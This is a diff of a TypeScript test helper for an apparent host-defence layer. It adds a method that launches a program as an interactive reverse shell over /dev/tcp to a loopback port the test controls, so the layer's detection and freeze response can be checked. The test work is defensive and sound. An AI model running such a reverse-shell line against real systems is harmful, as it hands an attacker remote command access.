@@ -1,24 +1,24 @@
 import assert from "node:assert/strict";
-import { writeFileSync } from "node:fs";
+import { copyFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import type { TestContext } from "node:test";
 import { setTimeout as pause } from "node:timers/promises";
-import { startApp } from "../src/lab/app.ts";
 import { end } from "../src/lab/crew.ts";
+import type { Mode } from "../src/core/action.ts";
 import { checkHost, type LabHost } from "../src/lab/host-check.ts";
 import { readKnobs } from "../src/lab/knobs.ts";
 import type { Part } from "../src/lab/lab-groups.ts";
 import { openLoopbackSite } from "../src/lab/loopback-site.ts";
-import { payloadArgs } from "../src/lab/payload.ts";
+import { PAYLOAD_SOURCE } from "../src/lab/payload.ts";
 import { programArgv, programFile } from "../src/lab/program.ts";
 import { openWorkplace, type Workplace } from "../src/lab/workplace.ts";
+import { ApiClient } from "../src/api/client.ts";
+import { statePaths } from "../src/core/state-paths.ts";
 import { until } from "../src/api/server.fixture.ts";
 
 /** Wakes up 500 times a second and waits for a CPU each time; a builtin, so that it is one process. */
 const SERVICE = 'exec 3<> "$0"; while :; do read -r -t 0.002 -u 3; done';
 const START_MS = 20_000;
-/** Requests that the layer sees before the application is "exploited". */
-const ORDINARY = 12;
 
 /** What lacks here for a layer that can be asked to change something; undefined where nothing does. */
 export function unfit(): string | undefined {
@@ -26,15 +26,15 @@ export function unfit(): string | undefined {
   return host.ok ? host.value.noDropper : host.says;
 }
 
-/** A real layer in `advise`, its page, and groups of its own to decide about. Everything goes with the test. */
-export async function startLiveLayer(t: TestContext): Promise<LiveLayer> {
+/** A real layer, its page, and groups of its own to decide about. Everything goes with the test. */
+export async function startLiveLayer(t: Pick<TestContext, "after">, mode: Mode = "advise"): Promise<LiveLayer> {
   const host = checkHost();
   assert.ok(host.ok);
   const workplace = await openWorkplace(host.value.layout);
   assert.ok(workplace.ok, workplace.ok ? "" : workplace.says);
   t.after(async () => assert.deepEqual(await workplace.value.close(), []));
   const live = new LiveLayer(host.value, workplace.value);
-  await live.start();
+  await live.start(mode);
   return live;
 }
 
@@ -48,7 +48,7 @@ class LiveLayer {
     this.workplace = workplace;
   }
 
-  async start(): Promise<void> {
+  async start(mode: Mode): Promise<void> {
     const { crew, stateDir, groups } = this.workplace;
     const config = join(stateDir, "swarms.yaml");
     const workloads = [
@@ -56,7 +56,13 @@ class LiveLayer {
       `{ name: batch, cgroup: "${groups.path("batch")}", kind: batch }`,
     ];
     const leases = "leases: { balanceSeconds: 60 }";
-    const all = ["mode: advise", `scope: ["${groups.root}"]`, `workloads: [${workloads.join(", ")}]`, leases];
+    const all = [
+      `mode: ${mode}`,
+      "colonies: { immune: { learningHours: 0 } }",
+      `scope: ["${groups.root}"]`,
+      `workloads: [${workloads.join(", ")}]`,
+      leases,
+    ];
     writeFileSync(config, [...all, "budget: { shareOfScope: 1 }", ""].join("\n"));
     const main = programFile("../cli/main");
     const argv = [process.execPath, main, "run", "--view", "plain", "--config", config, "--state", stateDir];
@@ -70,6 +76,13 @@ class LiveLayer {
     while (linkOf() === undefined && child.exitCode === null && Date.now() < endMs) await pause(50);
     this.link = linkOf() ?? "";
     assert.notEqual(this.link, "", said);
+  }
+
+  /** Of the freeze in force: other incidents of the host are none of this test. */
+  async incidentOfFreeze(): Promise<string> {
+    const status = await new ApiClient(statePaths(this.workplace.stateDir).socket).status();
+    const leases = status.ok ? status.value.leases : [];
+    return leases.find(({ kind }) => kind === "freeze")?.incident ?? "";
   }
 
   /** What the kernel itself says of a group. */
@@ -98,16 +111,14 @@ class LiveLayer {
     return () => Promise.all(started.map((child) => end(child, 1000)));
   }
 
-  /** The application fetches a file, makes it executable and runs it: a harmless loop that ends by itself. */
-  async dropSomething(t: TestContext): Promise<void> {
+  /** A program that came a moment ago turns into a shell at a connection, whose far end is this test and says nothing. */
+  async openReverseShell(t: Pick<TestContext, "after">): Promise<void> {
     const { crew, groups, folder } = this.workplace;
     const site = await openLoopbackSite({ download: () => undefined, connect: () => undefined });
     t.after(() => site.close());
-    const app = await startApp(crew, groups.procsFiles("app"));
-    assert.ok(app.ok, app.ok ? "" : app.says);
-    const served = await app.value.serve(ORDINARY, site.usualUrl);
-    assert.ok(served.ok, served.ok ? "" : served.says);
-    const files = { started: join(folder, "started"), steps: join(folder, "steps") };
-    app.value.drop({ url: site.payloadUrl, file: join(folder, "update"), args: payloadArgs(files, site.farPort) });
+    const program = join(folder, "update");
+    copyFileSync(PAYLOAD_SOURCE, program);
+    const script = `exec 3<>/dev/tcp/127.0.0.1/${site.farPort}; exec sh -i <&3 >&3 2>&3`;
+    crew.start({ name: "update", argv: [program, "-c", script], groups: groups.procsFiles("app") });
   }
 }
